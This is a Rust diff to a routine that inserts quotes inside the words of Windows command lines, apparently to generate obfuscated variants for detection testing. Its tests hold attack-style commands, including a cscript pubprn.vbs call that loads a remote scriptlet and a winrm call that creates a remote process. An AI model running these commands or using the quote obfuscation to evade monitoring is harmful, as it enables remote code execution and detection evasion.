@@ -30,7 +30,8 @@ fn apply(line: &Line<'_>) -> Vec<Mutated> {
         if raw.contains('"') {
             continue;
         }
-        let is_winrms = line.is_winrm() && line.script.is_some_and(|script| arg > script);
+        // It also looks for its own name in the line, so that must stay in one piece.
+        let is_winrms = line.is_winrm() && line.script.is_some_and(|script| arg >= script);
         if is_winrms {
             whole(line, arg, &mut edits);
         } else {
@@ -46,7 +47,10 @@ fn parts(line: &Line<'_>, arg: usize, edits: &mut Vec<Edit>) {
     let start = line.place(arg).start;
     let mut at = 0;
     while at < raw.len() {
-        let letters = raw[at..].bytes().take_while(u8::is_ascii_alphanumeric).count();
+        let letters = raw[at..]
+            .bytes()
+            .take_while(u8::is_ascii_alphanumeric)
+            .count();
         if letters >= 3 {
             for quote in [at + 1, at + letters - 1] {
                 edits.push((start + quote..start + quote, "\"".to_owned()));
@@ -81,11 +85,17 @@ mod tests {
     #[test]
     fn words_are_quoted_in_their_middle() {
         assert_eq!(
-            logged(&QUOTED_PARTS, r"cscript //b C:\tmp\pubprn.vbs 127.0.0.1 script:http://x/é"),
+            logged(
+                &QUOTED_PARTS,
+                r"cscript //b C:\tmp\pubprn.vbs 127.0.0.1 script:http://x/é"
+            ),
             [r#"cscript //b C:\t"m"p\p"ubpr"n.v"b"s 1"2"7.0.0.1 s"crip"t:h"tt"p://x/é"#]
         );
         assert_eq!(
-            logged(&QUOTED_PARTS, r#"powershell -file "a b.ps1" -VsWherePath x"#),
+            logged(
+                &QUOTED_PARTS,
+                r#"powershell -file "a b.ps1" -VsWherePath x"#
+            ),
             [r#"powershell -f"il"e "a b.ps1" -V"sWherePat"h x"#]
         );
         assert_eq!(logged(&QUOTED_PARTS, "pester.bat help"), [""; 0]);
@@ -94,8 +104,15 @@ mod tests {
     #[test]
     fn winrm_takes_quotes_around_whole_words() {
         assert_eq!(
-            logged(&QUOTED_PARTS, "winrm invoke Create wmicimv2/Win32_Process -r:http://host -q"),
+            logged(
+                &QUOTED_PARTS,
+                "winrm invoke Create wmicimv2/Win32_Process -r:http://host -q"
+            ),
             [r#"winrm "invoke" "Create" "wmicimv2/Win32_Process" -r:"http://host" -q"#]
+        );
+        assert_eq!(
+            logged(&QUOTED_PARTS, r"cscript //b winrm.vbs get x"),
+            [r#"cscript //b "winrm.vbs" "get" "x""#]
         );
     }
 }
